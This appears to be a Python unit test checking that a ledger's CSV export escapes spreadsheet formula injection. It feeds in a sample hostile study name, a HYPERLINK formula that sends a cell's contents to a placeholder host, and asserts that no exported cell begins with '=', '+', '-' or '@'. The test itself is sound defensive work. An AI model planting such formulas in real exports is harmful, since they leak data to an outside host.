import csv
import io


def test_no_cell_of_the_csv_is_a_formula(ledger, tenth):
    """Attack: a study whose name a spreadsheet computes when the officer opens the export."""
    name = '=HYPERLINK("http://x/"&A1)'
    ledger.charge("study", tenth, purpose="+1", key="@x", study=(name, "0" * 64))
    ledger.refuse((name, "0" * 64), name="dpo", reason="-2")
    for line in csv.reader(io.StringIO(ledger.to_csv())):
        assert not [cell for cell in line if cell[:1] in ("=", "+", "-", "@")]
        assert "'" + name in line or line[0] == "row"
